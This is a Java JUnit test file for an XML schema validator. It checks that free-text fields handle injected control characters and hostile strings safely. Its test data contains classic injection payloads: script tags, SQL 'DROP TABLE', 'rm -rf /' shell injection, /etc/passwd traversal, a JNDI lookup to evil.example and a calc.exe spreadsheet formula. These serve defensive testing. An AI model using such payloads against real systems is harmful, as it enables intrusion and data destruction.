package org.valise.schemas;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.Function;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.valise.schemas.directory.DirectoryXml;
import org.valise.schemas.document.DocumentLimits;
import org.valise.schemas.document.DocumentValidator;
import org.valise.schemas.document.Verdict;
import org.valise.schemas.evidence.EvidenceXml;
import org.valise.schemas.header.RoutingHeaderXml;

/**
 * Every text of every example, with something in its place that a screen, a log, a file system, a shell or a database would
 * obey. What would change how a line reads is refused wherever it stands. The rest is refused where the schema wants another
 * kind of text, and is ordinary text where a person may write what he likes. No finding repeats what was written.
 */
class InjectedTextTest {
    private static final Pattern TEXT = Pattern.compile("<(\\w+)( [^>]*)?>([^<]+)</\\1>");

    private static final Set<String> FREE = FreeText.elements();

    /** Elements with free text that stand in no example. */
    private static final Set<String> IN_NO_EXAMPLE = Set.of("IdentityDocument", "Importer", "Need", "Remarks");

    private static final List<String> NEVER = List.of(
            "a\u0007b", // a bell
            "a\u001b[2Jb", // clears a terminal
            "a\u009b31mb", // the same in one character
            "a\u0085b", // a new line
            "a&#13;b", // back to the start of the line
            "a\u2028b", // a line separator
            "a\u2029b", // a paragraph separator
            "a\u202eb", // reads backwards from here on
            "a\u202ab", // an embedding
            "a\u007fb");

    private static final List<String> ORDINARY = List.of(
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\"&gt;&lt;img src=x onerror=alert(1)&gt;",
            "'; DROP TABLE message; --",
            "x' OR '1'='1' OR 'y'='y",
            "$(reboot) `id` | rm -rf / &amp;&amp; echo",
            "../../../../etc/passwd",
            "%n%s${jndi:ldap://evil.example/x}",
            "=cmd|' /C calc.exe'!A0",
            "2026-01-01 00:00:00 INFO all is well");

    private final DocumentValidator validator = new DocumentValidator(DocumentLimits.DEFAULT);
    private final DirectoryXml directories = new DirectoryXml();

    @TestFactory
    Stream<DynamicTest> inEveryExample() {
        return Stream.concat(
                Examples.DOCUMENTS.stream().map(name -> test(name, this::document)),
                Map.<String, Function<byte[], List<Finding>>>of(
                                "directory", read(directories::read),
                                "routing-header", read(RoutingHeaderXml::read),
                                "evidence", read(EvidenceXml::read))
                        .entrySet()
                        .stream()
                        .map(kind -> test(kind.getKey(), kind.getValue())));
    }

    @Test
    void standsInTheExamplesWhereverTheSchemasHaveFreeText() {
        Set<String> missing = new TreeSet<>(FreeText.elements());
        Stream.concat(Examples.DOCUMENTS.stream(), Stream.of("directory", "routing-header", "evidence"))
                .flatMap(name -> places(Examples.text(name)).stream())
                .map(place -> place.group(1))
                .forEach(missing::remove);

        assertThat(missing).isEqualTo(IN_NO_EXAMPLE);
    }

    @Test
    void leavesADirectoryAsItWasWritten() {
        String text = Examples.text("directory");
        places(text).stream()
                .filter(place -> FREE.contains(place.group(1)))
                .forEach(place -> ORDINARY.forEach(ordinary -> {
                    byte[] written = directories.write(directories.read(with(text, place, ordinary)));
                    assertThat(new String(written, StandardCharsets.UTF_8).replace("&quot;", "\""))
                            .as(place.group())
                            .contains(ordinary);
                }));
    }

    private DynamicTest test(String example, Function<byte[], List<Finding>> reader) {
        return DynamicTest.dynamicTest(example, () -> {
            String text = Examples.text(example);
            assertThat(reader.apply(Examples.bytes(example))).isEmpty();
            for (MatchResult place : places(text)) {
                NEVER.forEach(never -> assertThat(reader.apply(with(text, place, never)))
                        .as(place.group() + " with " + never)
                        .isNotEmpty()
                        .allSatisfy(InjectedTextTest::isPlain));
                ORDINARY.forEach(ordinary -> assertThat(reader.apply(with(text, place, ordinary)))
                        .as(place.group() + " with " + ordinary)
                        .allSatisfy(InjectedTextTest::isPlain)
                        .satisfies(findings -> isTakenWhereItIsFree(place.group(1), findings)));
            }
        });
    }

    private static void isTakenWhereItIsFree(String element, List<? extends Finding> findings) {
        if (FREE.contains(element)) {
            assertThat(findings).isEmpty();
        }
    }

    /** A finding goes to screens and logs. */
    private static void isPlain(Finding finding) {
        assertThat(finding.toString())
                .doesNotContainPattern("[\\p{Cc}\\u2028-\\u202e]")
                .doesNotContain(
                        "alert(", "DROP TABLE", "'1'='1", "reboot", "etc/passwd", "jndi", "calc.exe", "all is well");
    }

    private List<Finding> document(byte[] xml) {
        return validator.check(xml) instanceof Verdict.Refused refused ? refused.findings() : List.of();
    }

    private static Function<byte[], List<Finding>> read(Function<byte[], ?> reader) {
        return xml -> {
            try {
                assertThat(reader.apply(xml)).isNotNull();
                return List.of();
            } catch (MalformedXml malformed) {
                return List.of(malformed.finding());
            }
        };
    }

    private static List<MatchResult> places(String text) {
        return TEXT.matcher(text).results().toList();
    }

    private static byte[] with(String text, MatchResult place, String injected) {
        return (text.substring(0, place.start(3)) + injected + text.substring(place.end(3)))
                .getBytes(StandardCharsets.UTF_8);
    }
}
